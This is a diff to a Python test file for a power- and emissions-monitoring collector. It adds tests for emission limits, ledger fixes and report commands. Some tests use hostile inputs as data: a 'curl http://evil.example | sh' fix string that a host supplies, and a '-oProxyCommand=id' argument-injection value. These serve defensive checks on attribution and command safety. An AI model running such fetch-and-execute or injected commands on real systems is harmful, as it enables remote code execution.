@@ -26,6 +26,7 @@ from wattgram_collector.views.day import Labels
 from wattgram_collector.views.losses import RECENT_SECONDS, Losses
 from wattgram_collector.views.model import (
     Budget,
+    EmissionLimit,
     Presence,
     Problem,
     ProblemKind,
@@ -43,6 +44,7 @@ def sound(host: str = "alpha") -> Agent:
     agent = Agent(replace(record(host=host), facts=HostFacts(host=host)), AgentTotals())
     agent.last_seen_unix_nanoseconds = agent.newest_sample_unix_nanoseconds = NOW
     agent.zone, agent.intensity, agent.power_microwatts = "FR", intensity("FR"), 7
+    agent.is_told = True
     agent.clock_offset_nanoseconds = 5 * SECOND
     agent.status = AgentStatus(spooled_batches=60)
     agent.sources = (
@@ -134,12 +136,30 @@ def test_a_host_that_is_late_is_only_that(bad: HostState) -> None:
     assert [one.kind for one in found] == [ProblemKind.AGENT_LATE]
 
 
+@pytest.mark.parametrize("how", [State.PERMISSION_DENIED, State.ERROR])
+def test_whose_words_a_fix_is_is_said(how: State) -> None:
+    (theirs,) = host_problems(state(source(how, "curl http://evil.example | sh")))
+    (ours,) = host_problems(state(source(how)))
+    assert (theirs.fix_said_by, ours.fix_said_by) == ("alpha", "")
+
+
 def test_a_host_that_never_said_anything_is_not_unpriced() -> None:
-    new = put(intensity=None, zone="", newest_sample_unix_nanoseconds=0)
+    new = put(intensity=None, zone="", newest_sample_unix_nanoseconds=0, is_told=False)
     assert host_problems(state(new)) == ()
 
 
-@pytest.mark.parametrize("evil", [EVIL, "-oProxyCommand=id"])
+def test_what_a_host_has_not_said_again_yet_is_no_problem() -> None:
+    """After a restart of the collector, and while a backlog comes."""
+    waiting = put(intensity=None, power_microwatts=None, zone="", is_told=False)
+    assert host_problems(state(waiting)) == ()
+
+
+def test_a_host_that_reports_and_never_measured_anything_has_no_power() -> None:
+    mute = put(power_microwatts=None, newest_sample_unix_nanoseconds=0, is_told=False)
+    assert [one.kind for one in host_problems(state(mute))] == [ProblemKind.POWER_UNKNOWN]
+
+
+@pytest.mark.parametrize("evil", [EVIL, "-oProxyCommand=id", "\N{GRINNING FACE}"])
 @pytest.mark.parametrize("name", BAD)
 def test_a_command_does_what_it_says_whatever_a_host_is_called(name: str, evil: str) -> None:
     bad = BAD[name][0]
@@ -206,6 +226,16 @@ def test_a_ledger_that_takes_nothing_is_critical(trouble: Trouble) -> None:
     assert found.fix
 
 
+@pytest.mark.parametrize(
+    ("trouble", "fix"),
+    [(Trouble.FULL, "df -h '/my data'"), (Trouble.READ_ONLY, "mount -o remount,rw '/my data'"),
+     (Trouble.LOCKED, "fuser -v '/my data'/ledger.sqlite")],
+)  # fmt: skip
+def test_what_mends_a_ledger_names_where_it_is(trouble: Trouble, fix: str) -> None:
+    (found,) = of_collector(trouble=LedgerError("no", trouble), state_directory="/my data")
+    assert found.fix == fix
+
+
 def test_a_ledger_that_could_not_be_read_is_a_warning() -> None:
     (found,) = of_collector(history_trouble=LedgerError("locked", Trouble.LOCKED))
     assert (found.kind, found.severity) == (ProblemKind.LEDGER_TROUBLE, Severity.WARNING)
@@ -225,7 +255,7 @@ def test_a_certificate_that_ends_soon(day: int, severity: Severity, text: str) -
 
 def test_an_authority_that_ends_needs_another() -> None:
     (found,) = of_collector(expiries_unix_seconds={"authority": 101 * DAY})
-    assert found.fix == "wattgram-collector ca init"
+    assert found.fix == "wattgram-collector ca init --directory NEW"
 
 
 def test_a_provider_that_says_nothing_newer() -> None:
@@ -244,6 +274,9 @@ def test_a_yearly_average_is_a_problem_where_there_was_better(tier: Tier) -> Non
 def test_the_worlds_average_asks_where_the_hosts_are() -> None:
     (found,) = of_collector(zones=(zone(Tier.WORLD),))
     assert (found.kind, found.severity) == (ProblemKind.INTENSITY_FALLBACK, Severity.INFO)
+    assert found.text.startswith(f"{zone(Tier.WORLD).hosts} hosts are ")
+    (found,) = of_collector(zones=(zone(Tier.WORLD, hosts=1),))
+    assert found.text.startswith("1 host is ")
 
 
 @pytest.mark.parametrize(
@@ -254,7 +287,7 @@ def test_a_budget_that_burns(used: float, elapsed: float, severity: Severity) ->
     (found,) = of_collector(budgets=(budget(used, elapsed),))
     assert (found.kind, found.severity) == (ProblemKind.BUDGET_BURNING, severity)
     assert f"{used:.0%}" in found.text
-    assert found.fix.endswith("--from 2026-01-02 --by host")
+    assert found.fix.endswith(" report --from 2026-01-02T00:00:00Z --by host")
 
 
 def test_the_worst_comes_first() -> None:
@@ -264,11 +297,37 @@ def test_the_worst_comes_first() -> None:
     assert [one.severity for one in found] == [Severity.CRITICAL, Severity.WARNING, Severity.INFO]
 
 
+def limit(rate: float | None, hosts: int | None = 2) -> EmissionLimit:
+    return EmissionLimit(
+        name="hall", grams_per_hour=200.0, present_grams_per_hour=rate, hosts=hosts
+    )
+
+
+def test_hosts_that_emit_more_than_their_limit() -> None:
+    assert of_collector(limits=(limit(None), limit(200.0), limit(0.0), limit(None, None))) == ()
+    (found,) = of_collector(limits=(limit(1_234.0),))
+    assert found.kind is ProblemKind.EMISSION_RATE
+    assert found.severity is Severity.WARNING
+    assert found.text == ("The hosts of the limit hall emit 1,234 g/h, and 200 g/h is too much.")
+
+
+FITS_NOBODY = "The {} fits no host that is known: nothing counts to it."
+
+
+def test_a_budget_or_a_limit_that_fits_nobody_is_said() -> None:
+    mine = replace(budget(0.0, 0.5), hosts=0)
+    found = of_collector(budgets=(mine, replace(mine, hosts=1)), limits=(limit(None, hosts=0),))
+    assert [(one.severity, one.text) for one in found] == [
+        (Severity.INFO, FITS_NOBODY.format(f"budget {mine.name}")),
+        (Severity.INFO, FITS_NOBODY.format("limit hall")),
+    ]  # fmt: skip
+
+
 def test_every_kind_of_problem_is_found_by_something() -> None:
     found = {kind for _, kind, _, _ in BAD.values()}
     found |= {ProblemKind.LEDGER_TROUBLE, ProblemKind.CERTIFICATE_EXPIRING,
               ProblemKind.INTENSITY_STALE, ProblemKind.INTENSITY_FALLBACK,
-              ProblemKind.BUDGET_BURNING}  # fmt: skip
+              ProblemKind.BUDGET_BURNING, ProblemKind.EMISSION_RATE}  # fmt: skip
     assert found == set(ProblemKind)
 
 
